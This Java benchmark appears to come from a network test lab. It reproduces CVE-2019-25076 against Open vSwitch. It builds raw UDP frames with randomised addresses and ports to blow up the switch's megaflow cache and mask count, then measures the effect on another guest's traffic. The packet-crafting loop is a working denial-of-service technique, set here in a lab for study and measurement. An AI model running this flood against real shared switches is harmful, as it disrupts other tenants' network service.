package io.drawbridge.lab;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * What a guest can do to Open vSwitch's cache by sending packets that each take another way through
 * the policy (CVE-2019-25076): how many megaflows they leave and in how many masks, which every
 * packet of everybody is then looked up in, and whether another guest's stream notices.
 */
public final class MegaflowBench {
  private static final int PACKETS = 10_000;
  private static final int CHUNK = 1000;
  private static final Pattern FIELD = Pattern.compile("([a-z_0-9]+)[=(]([^,()/]+)(/[^,()]+)?");

  private MegaflowBench() {}

  /** Directory for results, then the number of rules. */
  public static void main(String[] arguments) throws IOException {
    int rules = Integer.parseInt(arguments[1]);
    String seed = Files.readString(Path.of("networks/seed.yaml"));
    try (Lab lab = Lab.open()) {
      SeedNetwork network = new SeedNetwork(lab);
      try (ControllerProcess controller =
          new ControllerProcess(lab.directory().resolve("data"), 0)) {
        controller.put(document(seed, rules));
        network.bridge().setController(controller.openflowPort());
        Wait.until("the switch has its tables", Duration.ofSeconds(60), controller::isConverged);
        network.internet().serveUdp(7);
        Activity stream = network.mail().startUdpStream("203.0.113.10", 7, 200);
        Wait.until("the stream flows", Duration.ofSeconds(10), () -> stream.received() > 100);
        Random random = new Random(1);
        long start = System.nanoTime();
        for (int sent = 0; sent < PACKETS; sent += CHUNK) {
          List<String> frames = new ArrayList<>();
          for (int i = 0; i < CHUNK; i++) {
            frames.add(frame(random));
          }
          network.web().sendFrames(frames);
        }
        double seconds = (System.nanoTime() - start) / 1e9;
        List<String> megaflows = network.bridge().megaflows();
        Set<String> masks = new HashSet<>();
        megaflows.forEach(flow -> masks.add(mask(flow)));
        JsonNode counted = stream.stop();
        Files.writeString(
            Path.of(arguments[0]).resolve("megaflows.json"),
            String.format(
                Locale.ROOT,
                """
                {"rules": %d, "packets": %d, "seconds": %.2f, "megaflows": %d, "masks": %d,
                "stream_sent": %d, "stream_lost": %d, "longest_gap_ms": %d}
                """,
                rules,
                PACKETS,
                seconds,
                megaflows.size(),
                masks.size(),
                counted.path("sent").asInt(),
                counted.path("lost").size(),
                counted.path("longestGapMillis").asInt()));
      }
    }
  }

  /** Rules between guests that tell addresses and ranges of ports apart, before the seed's. */
  private static String document(String seed, int count) {
    StringBuilder aliases = new StringBuilder("aliases:\n");
    for (int i = 0; i < PolicyText.ALIASES; i++) {
      aliases.append("  set").append(i).append(": ").append(PolicyText.alias(i, 0)).append('\n');
    }
    StringBuilder rules = new StringBuilder("\nrules:\n");
    Random random = new Random(2);
    for (int i = 0; i < count; i++) {
      int first = random.nextInt(1, 65_000);
      rules.append(
          "  - {name: r%d, action: pass, protocol: udp, from: {zone: dmz, address: set%d}, to: {zone: dmz, port: %d-%d}}%n"
              .formatted(
                  i, random.nextInt(PolicyText.ALIASES), first, first + random.nextInt(1, 200)));
    }
    return seed.replaceFirst("(?m)^aliases:\n", Matcher.quoteReplacement(aliases.toString()))
        .replaceFirst("\nrules:.*\n", Matcher.quoteReplacement(rules.toString()));
  }

  /** UDP from web to mail with random addresses of the rules' kind and random ports. */
  private static String frame(Random random) {
    String ports = "%04x%04x".formatted(random.nextInt(1, 65_536), random.nextInt(1, 65_536));
    String source =
        "0a%02x%02x%02x"
            .formatted(
                1 + random.nextInt(PolicyText.ALIASES), random.nextInt(256), random.nextInt(256));
    String header = "4500001c0000000040110000" + source + "ac100101";
    int sum = 0;
    for (int i = 0; i < header.length(); i += 4) {
      sum += Integer.parseInt(header.substring(i, i + 4), 16);
    }
    sum = ~((sum & 0xffff) + (sum >>> 16)) & 0xffff;
    return "020000000101"
        + "020000000102"
        + "0800"
        + header.substring(0, 20)
        + "%04x".formatted(sum)
        + header.substring(24)
        + ports
        + "00080000"
        + "00".repeat(18);
  }

  /** Which bits of which fields a megaflow looks at. */
  private static String mask(String megaflow) {
    StringBuilder mask = new StringBuilder();
    String match = megaflow.substring(0, Math.max(0, megaflow.indexOf(" packets:")));
    Matcher field = FIELD.matcher(match);
    while (field.find()) {
      mask.append(field.group(1)).append(field.group(3) == null ? "" : field.group(3)).append(' ');
    }
    return mask.toString();
  }
}
